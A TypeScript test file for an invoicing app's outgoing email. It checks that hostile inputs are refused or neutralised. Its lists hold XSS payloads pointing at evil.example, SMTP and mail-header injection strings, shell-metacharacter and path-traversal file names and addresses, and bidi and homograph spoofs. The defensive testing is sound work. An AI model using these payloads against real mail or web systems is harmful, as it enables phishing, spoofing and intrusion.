import { domainToUnicode } from 'node:url'
import { dkimVerify } from 'mailauth/lib/dkim/verify.js'
import PostalMime, { type Email } from 'postal-mime'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { changeSettings } from '../src/company/settings/change.ts'
import { ITEM, type Json } from './givens.ts'
import { API_KEY, startTestApp, type TestApp } from './harness.ts'
import { type MailServer, type ReceivedMail, startMailServer } from './mail-server.ts'

/*
 * Hostile texts in everything of a message that people write. Each row is refused, or it reaches a real
 * mail server as plain text: with the headers, recipients, tags and file names of a harmless message.
 */

const TAGS = [
  '<script>alert(1)</script>',
  '<script src=https://evil.example/x.js></script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.gif" width=1 height=1>',
  '<svg onload=alert(1)>',
  '"><svg/onload=alert(1)>',
  "' onmouseover='alert(1)",
  '" style="position:fixed;inset:0" x="',
  '<a href="javascript:alert(1)">Pay</a>',
  '<a href="https://evil.example/pay">Pay here</a>',
  '</title><script>alert(1)</script>',
  '</style><style>body{display:none}',
  '</td></tr></table><h1>Overdue</h1>',
  '</body></html><html><body>',
  '<!--',
  '--><b>bold</b>',
  '<!--[if mso]><img src=https://evil.example/p.gif><![endif]-->',
  '<![CDATA[<b>]]>',
  '<?xml version="1.0"?><x/>',
  '<!doctype html>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<form action="https://evil.example"><input name=iban>',
  '<button formaction="https://evil.example">Pay</button>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="https://evil.example/x"></object>',
  '<embed src="https://evil.example/x">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import url(https://evil.example/x.css);</style>',
  '<div style="background:url(https://evil.example/p.gif)">',
  '<video poster="https://evil.example/p.gif">',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<table background="https://evil.example/p.gif">',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '&#x3c;img src=x onerror=alert(1)&#x3e;',
  '&amp;lt;b&amp;gt;',
  '&lt&gt&quot',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '＜script＞alert(1)＜/script＞',
  '﹤script﹥alert(1)﹤/script﹥',
  '‹script›alert(1)‹/script›',
  '`onload=alert(1)`',
  '#{alert(1)}',
  '{{customer_name}}',
  '{{#each items}}x{{/each}}',
  '{link}{link}',
  '{number}{{',
  '<b',
  'a<b>c</b',
  '<<script>script>alert(1)<</script>/script>',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'cid:logo',
  '[Pay](https://evil.example)',
  '=3Cscript=3Ealert(1)=3C/script=3E',
  '=?utf-8?B?PHNjcmlwdD4=?=',
  '=?utf-8?Q?=3Cimg_src=3Dx=3E?=',
  '<plaintext>',
]

/** Behind a name or a subject: another header, part or command. */
const BREAKS = [
  '\r\nBcc: evil@example.org',
  '\nBcc: evil@example.org',
  '\rBcc: evil@example.org',
  '\r\n\tBcc: evil@example.org',
  '\r\n\r\n<h1>Another body</h1>',
  '\n\nAnother body',
  '\r\nSubject: another',
  '\r\nFrom: Bank <service@bank.example>',
  '\r\nSender: evil@example.org',
  '\r\nReply-To: evil@example.org',
  '\r\nTo: evil@example.org',
  '\r\nCc: evil@example.org',
  '\r\nReturn-Path: <evil@example.org>',
  '\r\nContent-Type: text/html',
  '\r\nContent-Transfer-Encoding: base64',
  '\r\nMIME-Version: 2.0',
  '\r\nX-Mailer: evil',
  '\r\nList-Unsubscribe: <https://evil.example>',
  '\r\nDisposition-Notification-To: evil@example.org',
  '\r\nAuthentication-Results: nord.example; dkim=pass',
  '\r\nDKIM-Signature: v=1; a=rsa-sha256',
  '\r\nReceived: from evil.example',
  '\r\nMessage-ID: <other@evil.example>',
  '\r\nIn-Reply-To: <other@evil.example>',
  '\r\nDate: Thu, 1 Jan 1970 00:00:00 +0000',
  '\r\n--msg\r\nContent-Type: text/html\r\n\r\n<b>',
  '\r\n.\r\nRSET\r\nMAIL FROM:<evil@example.org>',
  '\r\n.\r\nQUIT',
  '\n.\nMAIL FROM:<evil@example.org>',
  '\r\n.',
  '\r.\rQUIT',
  '\u0000Bcc: evil@example.org',
  '\u000bBcc: evil@example.org',
  '\u000cBcc: evil@example.org',
  '\u001bBcc: evil@example.org',
  '\u007fBcc: evil@example.org',
  '\u0085Bcc: evil@example.org',
  '\u2028Bcc: evil@example.org',
  '\u2029Bcc: evil@example.org',
  '\u560d\u560aBcc: evil@example.org',
  '%0d%0aBcc: evil@example.org',
  '\\r\\nBcc: evil@example.org',
  '=0D=0ABcc: evil@example.org',
  '=?utf-8?Q?=0D=0ABcc:_evil@example.org?=',
  '=?utf-8?B?DQpCY2M6IGV2aWxAZXhhbXBsZS5vcmc=?=',
  '=?iso-8859-1?Q?=0ABcc:_evil@example.org?= =?utf-8?Q?x?=',
  '", evil@example.org',
  '" <evil@example.org>, "',
  ' <evil@example.org>',
  '> <evil@example.org',
  ', Evil <evil@example.org>',
  '; evil@example.org',
  ': evil@example.org;',
  '(comment) evil@example.org',
  '\\" <evil@example.org>',
  '@evil.example:desk@fernweh.example',
  'x'.repeat(190),
  'ü'.repeat(190),
  '🧾'.repeat(90),
  'a\u0300'.repeat(90),
]

/** Turns the order of letters around, or is seen as nothing. */
const BIDI = [
  '\u202egnp.exe',
  '\u202dabc\u202c',
  '\u202b\u202a\u202c',
  '\u2066hidden\u2069',
  '\u2067hidden\u2069',
  '\u2068hidden\u2069',
  '\u200e\u200f',
  '\u061cnumber',
  '\u202e9105-VNI',
  'Total \u202e00.1',
  '\u2069\u202c',
  '\u202a'.repeat(60),
  '\u202erab@oof',
  'INV\u202e-\u202d7',
  'שלום\u202eabc',
  'مرحبا\u2067abc\u2069',
  '\u200f<b>',
  '\u202e>tpircs<',
]

/** Seen as another text, or becomes one once it is normalized. */
const CONFUSABLES = [
  'Nоrd',
  'Аtelier Nord',
  'Atelier Νord',
  'ＡｔｅｌｉｅｒＮｏｒｄ',
  '𝐀𝐭𝐞𝐥𝐢𝐞𝐫',
  '𝓑𝓪𝓷𝓴',
  'ⓑⓐⓝⓚ',
  'раypal',
  'gооgle',
  'ⅼⅰnk',
  'rnicrosoft',
  'ſervice',
  'Straſse',
  'ﬁnance',
  'a\u200bb',
  'a\u200cb\u200dc',
  'a\u2060b\ufeffc',
  'a\u00adb',
  'Bank\u3164',
  'Bank\u115f',
  '\u2800Bank',
  '1\u2044100',
  '١٢٣',
  '０１２',
  'desk＠fernweh.example',
  'desk﹫fernweh.example',
  'a，b；c：d',
  '＂name＂',
  'evil。example',
  'evil․example',
  '℡ 1',
  '㏕',
]

const ADDRESSES = [
  'desk@fernweh.example, evil@example.org',
  'desk@fernweh.example;evil@example.org',
  'desk@fernweh.example evil@example.org',
  'Evil <evil@example.org>',
  '<evil@example.org>',
  '"Evil" <evil@example.org>',
  '"evil@example.org"@fernweh.example',
  '"a b"@fernweh.example',
  '"a\\" <evil@example.org>"@fernweh.example',
  'evil@example.org(comment)@fernweh.example',
  'desk(comment)@fernweh.example',
  'group:evil@example.org;',
  '@evil.example:desk@fernweh.example',
  'desk@fernweh.example>',
  'desk@fernweh.example> SIZE=1',
  'desk@fernweh.example> ORCPT=rfc822;evil@example.org',
  'desk@fernweh.example\r\nRCPT TO:<evil@example.org>',
  'desk@fernweh.example\nDATA',
  'desk@fernweh.example\r\nBcc: evil@example.org',
  'desk\r\n@fernweh.example',
  'desk@fernweh.example\u0000',
  'desk\u0000@fernweh.example',
  'de\u0007sk@fernweh.example',
  'de\u001bsk@fernweh.example',
  'de\u007fsk@fernweh.example',
  'de\u0085sk@fernweh.example',
  'de\u00a0sk@fernweh.example',
  'de\u2028sk@fernweh.example',
  'de\u200bsk@fernweh.example',
  'de\u200dsk@fernweh.example',
  'de\u00adsk@fernweh.example',
  'de\u2060sk@fernweh.example',
  'de\ufeffsk@fernweh.example',
  '\u202eksed@fernweh.example',
  'desk@\u202efernweh.example',
  'desk\u2066x\u2069@fernweh.example',
  '\u200fdesk@fernweh.example',
  '\u061cdesk@fernweh.example',
  'desk＠fernweh.example',
  'desk＠evil.example@fernweh.example',
  'desk﹫evil.example@fernweh.example',
  'desk，evil@fernweh.example',
  'desk＜evil＞@fernweh.example',
  'desk；@fernweh.example',
  'ｄｅｓｋ@fernweh.example',
  'desk@ｆernweh.example',
  'desk@fernweh。example',
  'desk@fernweh．example',
  'desk@fernweh｡example',
  'desk@fern\u00adweh.example',
  'desk@fern\u200bweh.example',
  'desk@xn--.example',
  'desk@',
  '@fernweh.example',
  'desk',
  'desk@fernweh',
  'desk@@fernweh.example',
  'desk@fernweh..example',
  'desk@.fernweh.example',
  'desk@fernweh.example.',
  'desk@-fernweh.example',
  'desk@fernweh-.example',
  'desk@fern_weh.example',
  'desk@fern weh.example',
  'desk@[127.0.0.1]',
  'desk@[IPv6:::1]',
  'desk@127.0.0.1',
  'desk@localhost',
  'desk@fernweh.example:25',
  'desk@fernweh.example/x',
  'desk@fernweh.example?subject=x',
  'desk@fernweh.example#x',
  'mailto:desk@fernweh.example',
  'desk%evil.example@fernweh.example',
  'evil.example!desk@fernweh.example',
  '|/bin/sh@fernweh.example',
  '-oQ/tmp@fernweh.example',
  '--help@fernweh.example',
  '`id`@fernweh.example',
  '$(id)@fernweh.example',
  "o'neill@fernweh.example",
  'desk+tag@fernweh.example',
  '{customer_name}@fernweh.example',
  '=?utf-8?Q?evil@example.org?=@fernweh.example',
  '=?utf-8?Q?desk?=@fernweh.example',
  'dеsk@fernweh.example',
  'desk@fernwеh.example',
  'desk@bücher.example',
  'größe@fernweh.example',
  'ß@fernweh.example',
  `${'a'.repeat(65)}@fernweh.example`,
  `desk@${'a'.repeat(64)}.example`,
  `desk@${'a.'.repeat(130)}example`,
  '',
  ' ',
  '\t',
]

/** Of files that go along; the bytes are those of a small CSV. */
const FILE_NAMES = [
  '../../etc/passwd.csv',
  '..\\..\\boot.csv',
  '/etc/passwd.csv',
  'C:\\x.csv',
  '.csv',
  '..csv',
  '~/.ssh/id.csv',
  'con.csv',
  'aux.csv',
  'nul.csv',
  'a.csv ',
  'a.csv.',
  'a\u0000.csv',
  'a\r\nContent-Type: text/html.csv',
  'a"\r\nX-Evil: 1.csv',
  'a";filename="evil.exe.csv',
  'a;filename=evil.exe;.csv',
  "a'; filename*=utf-8''evil.exe.csv",
  "utf-8''evil%2Eexe.csv",
  'a%0d%0aBcc%3a.csv',
  '=?utf-8?B?ZXZpbC5leGU=?=.csv',
  '\u202evsc.exe.csv',
  'invoice\u202efdp.csv',
  '\u2066a\u2069.csv',
  '\u200fa.csv',
  'a\u200b.csv',
  'a\u2028b.csv',
  'evil.exe.csv',
  'evil.html.csv',
  'evil.csv.exe',
  'evil.csv.html',
  'evil.svg',
  'evil.html',
  '<script>.csv',
  '"><img src=x>.csv',
  '$(id).csv',
  '`id`.csv',
  '|sh.csv',
  'a&b.csv',
  'a:b.csv',
  'a*b?.csv',
  `${'a'.repeat(300)}.csv`,
  `${'ü'.repeat(90)}.csv`,
  '🧾.csv',
  'Größe.csv',
  'a／b.csv',
  'a＼b.csv',
  'ｅxe.csv',
]

/** Later messages about a document answer the first one. */
const OF_ANSWERS = ['in-reply-to', 'references']
const CONTROLS = /[\p{Cc}\u2028\u2029\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/u
const count = [TAGS, BREAKS, BIDI, CONFUSABLES, ADDRESSES, FILE_NAMES].flat().length

/** Enough for the largest number of messages at 1000 a minute, and none misses its place. */
const PACE_STEPS = 6
const PACE_STEP_MS = 1500

describe(`${count} hostile texts in messages`, () => {
  let app: TestApp
  let server: MailServer
  /** Of a harmless message, to compare the others with. */
  let plain: Seen

  beforeAll(async () => {
    server = await startMailServer()
    app = await startTestApp('sqlite', {
      SMTP_URL: server.url,
      MAIL_FROM: 'Atelier Nord <billing@nord.example>',
      PUBLIC_URL: 'https://bills.nord.example',
    })
    await changeSettings(app.work(), {
      body: { mailPerMinute: 1000, mailPerDay: 1_000_000 },
      mode: 'patch',
      ifMatch: undefined,
    })
    const { id } = await invoiceTo('Ida')
    await send(id, { attach: [], subject: 'Ida', body: 'Ida\nIda\n\n{link}' })
    const [mail] = await arrived()
    if (!mail) throw new Error('A harmless message did not arrive.')
    plain = await seen(mail)
  })
  afterAll(async () => {
    await app.close()
    await server.close()
  })

  const invoiceTo = (name: string): Promise<Json> => {
    const customer = { name, contact_name: name, email: 'desk@fernweh.example' }
    return put('POST', '/invoices', { customer, items: [ITEM], status: 'sent' })
  }
  /** Everything that waits leaves now; answers what came in. */
  const arrived = async (): Promise<readonly ReceivedMail[]> => {
    const from = server.received.length
    // First each takes its place in the pace; a place that is long past would be taken anew.
    for (let step = 0; step < PACE_STEPS; step += 1) {
      await app.services.jobRunner.runDue()
      app.clock.set(new Date(app.clock.now() + PACE_STEP_MS).toISOString())
    }
    return server.received.slice(from)
  }

  const put = async (method: 'POST' | 'PATCH', path: string, body: object): Promise<Json> => {
    const answer = await app.call(method, path, body)
    expect(answer.statusCode, answer.body).toBeLessThan(500)
    return answer.statusCode < 300 ? answer.json() : null
  }
  const send = (id: string, body: object) => put('POST', `/invoices/${id}/send`, body)

  test.each(
    Object.entries({ TAGS, BREAKS, BIDI, CONFUSABLES }),
  )('%s: as names, subject and words', async (_, texts) => {
    const { id } = await invoiceTo('Ida')
    const from = server.received.length
    let taken = 0
    for (const text of texts) {
      const words = { attach: [], subject: `Ida ${text}`, body: `Ida ${text}\n\n{link}` }
      const named = await invoiceTo(`Ida ${text}`)
      const messages = named
        ? [await send(named.id, words)]
        : [await send(id, { ...words, body: 'x' }), await send(id, { ...words, subject: 'x' })]
      taken += messages.filter((it) => it !== null).length
    }
    const mails = await arrived()
    expect(server.received).toHaveLength(from + taken)
    expect(taken).toBeGreaterThan(texts.length / 2)
    for (const mail of mails) {
      const { tags, ...rest } = await seen(mail)
      expect({ ...rest, tags: tags.filter((tag) => !plain.tags.includes(tag)) }).toEqual({
        ...plain,
        tags: [],
      })
    }
  })

  test('ADDRESSES: refused, or the one recipient of the message', async () => {
    const { id } = await invoiceTo('Ida')
    const taken: string[] = []
    for (const address of ADDRESSES) {
      const message = await send(id, { attach: [], to: [address] })
      const customer = await put('POST', '/customers', { name: 'Ida', billing_emails: [address] })
      if (address.trim() !== '')
        expect(customer !== null, `${address} of a customer`).toBe(message !== null)
      if (message !== null) taken.push(address)
      if (message !== null) expect(address).not.toMatch(REFUSED)
      for (const field of ['cc', 'bcc'])
        if (message === null)
          expect(await send(id, { attach: [], [field]: [address] }), address).toBeNull()
      if (message === null && address.trim() !== '')
        expect(await send(id, { attach: [], reply_to: address }), address).toBeNull()
    }
    expect(taken.length).toBeGreaterThan(5)
    expect(taken.length).toBeLessThan(25)
    const mails = await arrived()
    // This server has no SMTPUTF8, without which other letters before the @ cannot be sent.
    const sendable = taken.filter((address) => /^[ -~]+@/.test(address))
    expect(mails.map(({ to }) => to.map(unicodeOf)).toSorted()).toEqual(
      sendable.map((address) => [address]).toSorted(),
    )
    for (const mail of mails) expect((await seen(mail)).headers).toEqual(plain.headers)
  })

  test('FILE_NAMES: refused, or one attachment with a plain name', async () => {
    const { id } = await put('POST', '/invoices', {
      customer: { name: 'Ida', email: 'desk@fernweh.example' },
      items: [ITEM],
    })
    let taken = 0
    for (const name of FILE_NAMES) {
      const draft = await put('POST', `/invoices/${id}/duplicate`, {})
      const answer = await app.send({
        method: 'POST',
        url: `/api/v1/invoices/${draft.id}/files?${new URLSearchParams({ name, visible: 'customer' })}`,
        headers: { authorization: `Bearer ${API_KEY}`, 'content-type': 'text/csv' },
        payload: 'a,b\n1,2\n',
      })
      expect(answer.statusCode, answer.body).toBeLessThan(500)
      if (answer.statusCode !== 201) continue
      taken += 1
      await put('PATCH', `/invoices/${draft.id}`, { status: 'sent' })
      await send(draft.id, { attach: ['files'] })
    }
    const mails = await arrived()
    expect(mails).toHaveLength(taken)
    expect(taken).toBeGreaterThan(10)
    for (const mail of mails) {
      const { attachments } = await PostalMime.parse(mail.bytes)
      expect(attachments).toHaveLength(1)
      const [{ filename, mimeType } = { filename: '', mimeType: '' }] = attachments
      expect(mimeType).toBe('text/csv')
      expect(filename).toMatch(/^[^.\s\\/:*?"<>|][^\\/:*?"<>|]*\.csv$/)
      expect(filename).not.toMatch(CONTROLS)
    }
  })
})

/** What no address that is taken may have. */
const REFUSED = /[\s\p{C}<>(),;:"\\[\]]|^$/u

/** Domains leave as ASCII. */
const unicodeOf = (address: string): string => {
  const [local = '', domain = ''] = address.split('@')
  return `${local}@${domainToUnicode(domain)}`
}

/** What a mail program makes of a message. */
interface Seen {
  /** In their order. */
  readonly headers: readonly string[]
  readonly from: string
  readonly to: readonly string[]
  /** The envelope. */
  readonly recipients: readonly string[]
  /** Without their attributes' values. */
  readonly tags: readonly string[]
  readonly attachments: number
}

async function seen({ bytes, to }: ReceivedMail): Promise<Seen> {
  const source = bytes.toString('latin1')
  const head = source.slice(0, source.indexOf('\r\n\r\n'))
  expect(source.replaceAll('\r\n', ''), 'lines end as in RFC 5322').not.toMatch(/[\r\n]/)
  expect(head, 'UTF-8 stands in addresses only').toMatch(/^[\t\r\n\x20-\x7e\x80-\xff]*$/)
  const email = await PostalMime.parse(bytes)
  // Another parser, which knows the address that receivers check.
  const { headerFrom } = await dkimVerify(bytes)
  expect(headerFrom).toEqual([email.from?.address])
  for (const text of [email.subject, ...(email.to ?? []).map(({ name }) => name)])
    expect(text ?? '').not.toMatch(CONTROLS)
  for (const [, url] of (email.html ?? '').matchAll(/(?:href|src)="([^"]*)"/g))
    expect(url).toMatch(/^https:\/\/bills\.nord\.example\/i\/[\w-]+$/)
  return {
    headers: email.headers.map(({ key }) => key).filter((key) => !OF_ANSWERS.includes(key)),
    from: email.from?.address ?? '',
    to: (email.to ?? []).map(({ address }) => address ?? ''),
    recipients: to,
    tags: tagsOf(email),
    attachments: email.attachments.length,
  }
}

const tagsOf = ({ html = '' }: Email): readonly string[] => [
  ...new Set(html.match(/<[^>]*>/g)?.map((tag) => tag.replace(/"[^"]*"/g, '""'))),
]
